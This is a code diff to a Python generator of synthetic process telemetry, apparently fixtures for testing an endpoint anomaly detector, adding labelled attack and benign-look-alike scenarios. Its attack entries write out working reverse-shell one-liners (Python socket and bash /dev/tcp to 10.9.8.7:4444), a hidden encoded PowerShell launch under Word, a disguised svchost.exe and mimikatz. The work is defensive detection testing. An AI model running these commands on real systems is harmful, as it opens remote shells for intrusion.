@@ -22,7 +22,7 @@ import json
 import random
 import zlib
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -55,6 +55,7 @@ class Host:
     os: str
     role: str
     procs: list[Proc]
+    names_only: bool = False  # reports as a Voltaxe Sentinel does: process names only, no OS
 
 
 @dataclass
@@ -159,6 +160,9 @@ class Fleet:
             parent = row.pop("parent")
             if row["ppid"] is None:
                 row["ppid"] = pids.get(parent, 1) if parent else 1
+        if host.names_only:
+            return {"hostname": host.name, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
+                    "processes": [r["name"] for r in rows]}, marks
         return {"hostname": host.name, "os": host.os, "timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
                 "processes": rows}, marks
 
@@ -297,6 +301,115 @@ def new_software(fleet: Fleet) -> None:
     user = fleet.host("wks-02").procs[-1].user
     fleet.add("wks-02", Proc("Notion.exe", f"C:\\Users\\{user}\\AppData\\Local\\Programs\\Notion\\Notion.exe", user,
                              "explorer.exe", cpu=2, mem=200), "new_software", fleet.install_start)
+
+
+SOCKET_ONE_LINER = ("python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.9.8.7',4444));"
+                    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\"")
+
+
+def _guid(rng: random.Random) -> str:
+    return "{" + "-".join("".join(rng.choice("0123456789ABCDEF") for _ in range(n)) for n in (8, 4, 4, 4, 12)) + "}"
+
+
+def _daily(fleet: Fleet, host: str, hour: int, make: Callable[[random.Random], Proc], label: str) -> None:
+    """A run a day at `hour`, each with its own per-run details (`make` draws them)."""
+    rng = random.Random(zlib.crc32(f"{fleet.seed}:{host}:{hour}".encode()))
+    day = fleet.start.replace(hour=hour)
+    while day < fleet.end:
+        fleet.add(host, make(rng), label if day >= fleet.steady_start else "", day, day + timedelta(hours=1))
+        day += timedelta(days=1)
+
+
+@story("lineage")
+def lineage(fleet: Fleet) -> None:
+    """Class 1. A shell whose office parent has exited; an orphaned login shell; one-liners that open sockets.
+    Look-alikes: a shell whose usual parent restarted (another pid), the usual shells and scripts."""
+    user = fleet.host("wks-01").procs[-1].user
+    ps = WIN + "WindowsPowerShell\\v1.0\\powershell.exe"
+    word = Proc("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", user,
+                "explorer.exe", pid=4_100_001)
+    after = fleet.panic_at + timedelta(minutes=30)
+    fleet.add("wks-01", word, "", after - timedelta(hours=1), after)
+    fleet.add("wks-01", Proc("powershell.exe", ps, user, cmdline="powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+                             ppid=4_100_001), "attack:lineage", after)
+    # A login shell on the build hosts, as people use them; then an orphan, and a reverse shell from cron.
+    for host in ("build-00", "build-01"):
+        fleet.add(host, Proc("bash", "/usr/bin/bash", "builder", "sshd", "-bash", p=0.5), "", fleet.start)
+        fleet.add(host, Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/ci/report.py --daily",
+                             p=0.3), "", fleet.start)
+    fleet.add("build-00", Proc("bash", "/usr/bin/bash", "builder", cmdline="-bash", ppid=3_999_999), "attack:lineage",
+              fleet.panic_at)
+    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER), "attack:lineage",
+              fleet.panic_at)
+    fleet.add("build-01", Proc("bash", "/usr/bin/bash", "builder", "sshd", "bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"),
+              "attack:lineage", fleet.panic_at)
+    fleet.add("build-00", Proc("bash", "/usr/bin/bash", "builder", "sshd", "-bash"), "benign:lineage", fleet.steady_start)
+    fleet.add("build-01", Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/ci/report.py --daily"),
+              "benign:lineage", fleet.steady_start)
+    # wks-03's explorer restarts (a new pid); a PowerShell window its old instance opened stays.
+    explorer = next(p for p in fleet.host("wks-03").procs if p.name == "explorer.exe")
+    old_pid = 300 + zlib.crc32(f"wks-03:{explorer.name}:{explorer.exe}:0".encode()) % 60000
+    fleet.on("wks-03", fleet.panic_at, lambda h: replace(h, procs=[
+        replace(p, pid=4_200_000) if p.name == "explorer.exe" else p for p in h.procs]))
+    fleet.add("wks-03", Proc("powershell.exe", ps, fleet.host("wks-03").procs[-1].user, cmdline="powershell.exe -NoLogo",
+                             ppid=old_pid), "benign:lineage", fleet.panic_at + timedelta(hours=1))
+
+
+@story("random-paths")
+def random_paths(fleet: Fleet) -> None:
+    """Class 5. An updater unpacked in a new GUID folder every day, a Store app whose package version moves,
+    a build tool in a fresh build folder, a portable app mounted at a random point: not news. A disguise in
+    such a folder is."""
+    user = fleet.host("wks-04").procs[-1].user
+    temp = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\"
+    _daily(fleet, "wks-04", 10, lambda rng: Proc("GoogleUpdateSetup.exe", temp + _guid(rng) + "\\GoogleUpdateSetup.exe",
+                                                  "SYSTEM", "svchost.exe", p=1.0), "benign:random-paths")
+    terminal = "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_{}_x64__8wekyb3d8bbwe\\WindowsTerminal.exe"
+    fleet.add("wks-04", Proc("WindowsTerminal.exe", terminal.format("1.18.3181.0"), user, "explorer.exe"), "",
+              fleet.start, fleet.panic_at)
+    fleet.add("wks-04", Proc("WindowsTerminal.exe", terminal.format("1.19.10302.0"), user, "explorer.exe"),
+              "benign:random-paths", fleet.panic_at)
+    for hour in range(24):
+        _daily(fleet, "build-02", hour, lambda rng: Proc(
+            "main", f"/tmp/go-build{rng.randrange(10**8, 10**9)}/b001/exe/main", "builder", "make", p=0.5),
+            "benign:random-paths")
+    _daily(fleet, "build-02", 9, lambda rng: Proc(
+        "obsidian", f"/tmp/.mount_Obsid{''.join(rng.choice('ABCDEFGHabcdefgh0123') for _ in range(6))}/obsidian",
+        "builder", "systemd", p=1.0), "benign:random-paths")
+    fleet.add("wks-05", Proc("svchost.exe", f"C:\\Users\\{fleet.host('wks-05').procs[-1].user}\\AppData\\Local\\Temp\\"
+                             "{8C1E0A52-77D1-4B0E-9F3A-2C6D11E0B7A4}\\svchost.exe", "SYSTEM", "explorer.exe"),
+              "attack:random-paths", fleet.panic_at)
+    fleet.add("build-02", Proc("cc1plus", "/tmp/go-build424242424/b001/cc1plus", "builder", "make", cpu=5),
+              "attack:random-paths", fleet.panic_at)
+
+
+@story("approval-granularity")
+def approval_granularity(fleet: Fleet) -> None:
+    """Class 7. An approved app under a new parent and its own updater are not news; an approved interpreter
+    running another script is."""
+    user = fleet.host("wks-05").procs[-1].user
+    app = f"C:\\Users\\{user}\\AppData\\Local\\Figma\\"
+    fleet.add("wks-05", Proc("Figma.exe", app + "Figma.exe", user, "explorer.exe"), "new_software",
+              fleet.install_start, fleet.panic_at)
+    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", "python3 /opt/tools/deploy.py --env prod"),
+              "new_software", fleet.install_start, fleet.panic_at)
+    fleet.add("wks-05", Proc("Figma.exe", app + "Figma.exe", user, "OneDrive.exe"), "benign:approval-granularity",
+              fleet.panic_at)
+    fleet.add("wks-05", Proc("Update.exe", app + "Update.exe", user, "Figma.exe"), "benign:approval-granularity",
+              fleet.panic_at)
+    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "sshd", "python3 /opt/tools/deploy.py --env prod"),
+              "benign:approval-granularity", fleet.panic_at)
+    fleet.add("build-02", Proc("python3", "/usr/bin/python3", "builder", "cron", SOCKET_ONE_LINER),
+              "attack:approval-granularity", fleet.panic_at)
+
+
+@story("names-only")
+def names_only(fleet: Fleet) -> None:
+    """Class 8. A kiosk whose agent sends names only: its usual programs are not news, a new one is."""
+    user = PEOPLE[0]
+    fleet.hosts.append(Host("kiosk-00", "windows", "workstation", _windows(user), names_only=True))
+    fleet.add("kiosk-00", Proc("OneDrive.exe", "", user), "benign:names-only", fleet.steady_start)
+    fleet.add("kiosk-00", Proc("mimikatz.exe", "", user), "attack:names-only", fleet.panic_at)
 
 
 def build(*, seed: int = 11, end: datetime | None = None, days: int = 21, stories: list[str] | None = None) -> Fleet:
